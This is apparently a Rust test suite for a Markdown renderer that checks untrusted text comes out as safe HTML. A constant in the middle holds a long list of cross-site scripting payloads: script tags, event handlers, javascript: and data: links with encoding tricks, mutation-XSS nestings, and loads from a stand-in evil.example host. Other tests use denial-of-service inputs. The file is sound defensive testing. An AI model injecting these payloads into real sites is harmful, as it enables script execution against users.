//! Markdown written by anyone, in a page read by everyone.

use std::time::{Duration, Instant};

use cafeia_api::markdown::to_html;

const REL: &str = r#"rel="nofollow noopener external""#;

fn paragraph(words: &str) -> String {
    format!("<p>{words}</p>")
}

fn link(address: &str, words: &str) -> String {
    format!(r#"<a href="{address}" {REL}>{words}</a>"#)
}

/// Reads HTML as strictly as no browser does: known elements and attributes only, each closed in its turn, each `<`,
/// `>` and `&` of the words escaped.
fn check(html: &str, source: &str) {
    let source: String = source.chars().take(80).collect();
    let mut open: Vec<&str> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find(['<', '>', '&']) {
        let (words, after) = rest[at..].split_at(1);
        match words {
            "<" => {
                let (tag, after) = after.split_once('>').unwrap_or_else(|| panic!("{source:?}: {html}"));
                rest = after;
                if let Some(name) = tag.strip_prefix('/') {
                    assert_eq!(open.pop(), Some(name), "{source:?}: {html}");
                    continue;
                }
                let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
                let known = match name {
                    "a" => {
                        let address = attributes.strip_prefix("href=\"").and_then(|a| a.split_once("\" "));
                        address.is_some_and(|(address, rel)| {
                            let schemes = ["http://", "https://", "mailto:", "tel:"];
                            let sound = !address.contains(['"', '<', '>', ' ', '\t', '\n', '\0']);
                            sound && rel == REL && schemes.iter().any(|scheme| address.starts_with(scheme))
                        })
                    }
                    "ol" => {
                        let start = attributes.strip_prefix("start=\"").and_then(|a| a.strip_suffix('"'));
                        attributes.is_empty() || start.is_some_and(|n| n.parse::<u32>().is_ok())
                    }
                    "p" | "br" | "em" | "strong" | "ul" | "li" | "blockquote" | "code" | "pre" | "hr"
                    | "h3" | "h4" | "h5" | "del" => attributes.is_empty(),
                    _ => false,
                };
                assert!(known, "{source:?}: <{tag}> in {html}");
                if !matches!(name, "br" | "hr") {
                    open.push(name);
                    assert!(open.len() <= 14, "{source:?}: {open:?}");
                }
            }
            "&" => {
                let known = ["amp;", "lt;", "gt;", "quot;", "nbsp;"];
                assert!(known.iter().any(|entity| after.starts_with(entity)), "{source:?}: {html}");
                rest = after;
            }
            _ => panic!("{source:?}: a bare > in {html}"),
        }
    }
    assert!(open.is_empty(), "{source:?}: {open:?} left open in {html}");
    assert!(!html.contains('\0'));
    // What a browser would make of it, it says already.
    assert_eq!(ammonia::Builder::empty().clean(html).to_string().len(), text_of(html), "{source:?}: {html}");
}

/// How long a text is without its elements.
fn text_of(html: &str) -> usize {
    let mut within = false;
    let outside = html.chars().filter(|c| {
        within |= *c == '<';
        let counts = !within;
        within &= *c != '>';
        counts
    });
    outside.map(char::len_utf8).sum()
}

#[test]
fn what_a_host_writes_comes_out_as_meant() {
    for (markdown, html) in [
        ("", String::new()),
        ("Un *petit* **café**.", paragraph("Un <em>petit</em> <strong>café</strong>.")),
        ("Ligne  \nsuivante", paragraph("Ligne<br>\nsuivante")),
        ("~~mardi~~ jeudi", paragraph("<del>mardi</del> jeudi")),
        ("- thé\n- café", "<ul>\n<li>thé</li>\n<li>café</li>\n</ul>".to_owned()),
        ("3. trois\n4. quatre", "<ol start=\"3\">\n<li>trois</li>\n<li>quatre</li>\n</ol>".to_owned()),
        ("> cité", "<blockquote>\n<p>cité</p>\n</blockquote>".to_owned()),
        ("`a < b`", paragraph("<code>a &lt; b</code>")),
        ("```rust\nfn\n```", "<pre><code>fn\n</code></pre>".to_owned()),
        ("---", "<hr>".to_owned()),
        ("L’IA & nous", paragraph("L’IA &amp; nous")),
        (
            "[Plan](https://plan.example/a?b=1&c=2)",
            paragraph(&link("https://plan.example/a?b=1&amp;c=2", "Plan")),
        ),
        ("<https://cafe.example/x>", paragraph(&link("https://cafe.example/x", "https://cafe.example/x"))),
        ("<bib@crozon.example>", paragraph(&link("mailto:bib@crozon.example", "bib@crozon.example"))),
        ("[Appeler](tel:+33298000000)", paragraph(&link("tel:+33298000000", "Appeler"))),
        ("[Plan][p]\n\n[p]: http://plan.example/", paragraph(&link("http://plan.example/", "Plan"))),
        (
            "Voir https://cafe.example/a_b_c (et après).",
            paragraph(&format!(
                "Voir {} (et après).",
                link("https://cafe.example/a_b_c", "https://cafe.example/a_b_c")
            )),
        ),
        ("`https://cafe.example/`", paragraph("<code>https://cafe.example/</code>")),
        ("www.cafe.example", paragraph("www.cafe.example")),
    ] {
        assert_eq!(to_html(markdown), html, "{markdown:?}");
        check(&html, markdown);
    }
}

#[test]
fn headings_begin_below_those_of_the_page_and_skip_no_level() {
    for (markdown, levels) in [
        ("# a", "3"),
        ("###### a", "3"),
        ("# a\n## b\n### c\n#### d", "3455"),
        ("## a\n##### b\n## c", "343"),
        ("### a\n# b\n## c", "334"),
        ("a\n===\nb\n---", "34"),
        ("> # a\n\n# b {#id .class}", "33"),
    ] {
        let html = to_html(markdown);
        check(&html, markdown);
        let found: String = html.split("<h").skip(1).map(|after| &after[..1]).collect();
        assert_eq!(found, levels, "{markdown:?}: {html}");
    }
}

/// What has passed other sieves, and what might.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "a <script\n>alert(1)</script\n> b",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "![x](https://evil.example/pixel.png)",
    "![x](x \"onerror=alert(1)\")",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#10;script:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](\u{a0}javascript:alert(1))",
    "[a](java\u{ad}script:alert(1))",
    "[a](javascript\u{ff1a}alert(1))",
    "[a](javascript://https://ok.example/%0aalert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](blob:https://x/1)",
    "[a](view-source:https://x)",
    "[a](//evil.example)",
    "[a](/api/v1/cafes)",
    "[a](?q=1)",
    "[a](#top)",
    "[a](\\\\evil.example)",
    "[a](https:\\\\evil.example)",
    "[a](http:evil.example)",
    "[a](https://bank.example@evil.example/)",
    "[a](https://x.example/ \"\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://x.example/'onmouseover='alert(1))",
    "[a](<https://x.example/\" onmouseover=\"alert(1)>)",
    "[a](https://x.example/<script>alert(1)</script>)",
    "[a\"><script>alert(1)</script>](https://x.example)",
    "[a]: javascript:alert(1)\n\n[a] [b][a]",
    "[a]: https://x.example '\"><script>alert(1)</script>'\n\n[a]",
    "<javascript:alert(1)>",
    "<https://x.example/\"onmouseover=alert(1)>",
    "<data:text/html,x>",
    "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/'><script>alert(1)</script>",
    "javascript://x.example/%0aalert(1)",
    "<svg onload=alert(1)>",
    "<svg><style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<select><keygen><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x><embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed\" class=x id=y data-z=1 onclick=alert(1)>a</p>",
    "<a href=https://x.example target=_top ping=//evil.example download>a</a>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--> <script>alert(1)</script> -->",
    "<!-- a --!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    "<",
    "</",
    "</p></p>",
    "<b>a <i>b</b> c</i>",
    "<a href=\"",
    "**a *b** c*",
    "[a](https://x.example",
    "```\n<script>",
    "~~~html onclick=alert(1)\n<b>\n~~~",
    "``` \"><script>\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "a\0b <scr\0ipt>alert(1)</scr\0ipt>",
    "[a](java\0script:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "| a | b |\n|---|---|\n| <script> | x |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1)>",
    "$$<script>alert(1)</script>$$",
    "# a {onclick=alert(1) .x #y}",
    "a\r\n<script>\rb",
];

#[test]
fn hostile_text_stays_text() {
    for markdown in HOSTILE {
        check(&to_html(markdown), markdown);
    }
}

#[test]
fn links_to_elsewhere_than_the_web_mail_and_telephones_are_words_only() {
    for markdown in [
        "[a](javascript:alert(1))",
        "[a](data:text/html,x)",
        "[a](/x)",
        "[a](ftp://x.example)",
        "[a](https://bank.example@evil.example/)",
        "[a](<https://x .example>)",
    ] {
        assert_eq!(to_html(markdown), "<p>a</p>", "{markdown}");
    }
    assert_eq!(to_html("![Un *dessin*](https://x.example/a.png)"), "<p>Un <em>dessin</em></p>");
    assert_eq!(to_html("<b>gras</b>"), "<p>&lt;b&gt;gras&lt;/b&gt;</p>");
}

#[test]
fn no_character_turns_the_reading_direction() {
    let html = to_html("[a\u{202e}b](https://x.example/\u{202e}gpj.exe) \u{2066}c\u{2069} \u{200f}\u{5d0}");
    assert!(!html.chars().any(|c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')), "{html}");
    assert!(html.contains(">ab</a> c "), "{html}");
    assert!(html.contains('\u{5d0}'), "Hebrew stays");
}

#[test]
fn absurd_text_is_made_at_once_and_stays_in_proportion() {
    let nested: String = (0..140).flat_map(|i| ["  ".repeat(i), "- a\n".to_owned()]).collect();
    let reference = format!("[a]: https://x.example/{}\n\n", "b".repeat(4_000));
    for text in [
        ">".repeat(10_000),
        "> ".repeat(5_000),
        ">\n".repeat(5_000),
        "> - ".repeat(2_500),
        "[".repeat(10_000),
        "![".repeat(5_000),
        "[](".repeat(3_333),
        "[x](<".repeat(2_000),
        "1. ".repeat(3_333),
        nested,
        "*a **a ".repeat(1_400),
        "*a_b".repeat(2_000) + &"_c*".repeat(600),
        "*".repeat(10_000),
        "~a~b".repeat(2_500),
        (1..140).flat_map(|i| ["`".repeat(i), " ".to_owned()]).collect(),
        "<".repeat(10_000),
        "<b>".repeat(3_333),
        "<!--".repeat(2_500),
        "<?".repeat(5_000),
        "<![CDATA[".repeat(1_100),
        "&".repeat(10_000),
        "&#x1".repeat(2_500),
        "http://".repeat(1_430),
        "aaaaaaaaa://".repeat(833),
        format!("http://a/{}", "(".repeat(9_000)),
        "[a]: b\n".repeat(1_400),
        reference + &"[a]".repeat(1_900),
        "<a@b.c>".repeat(1_400),
        "# a\n".repeat(2_500),
        "\\".repeat(10_000),
        "\u{202e}".repeat(10_000),
        "e\u{301}".repeat(5_000),
        "mot ".repeat(1_000_000),
    ] {
        let started = Instant::now();
        let html = to_html(&text);
        let shown: String = text.chars().take(20).collect();
        assert!(started.elapsed() < Duration::from_secs(3), "{shown}: {:?}", started.elapsed());
        assert!(html.len() < 300_000, "{shown}: {} bytes", html.len());
        check(&html, &text);
    }
}
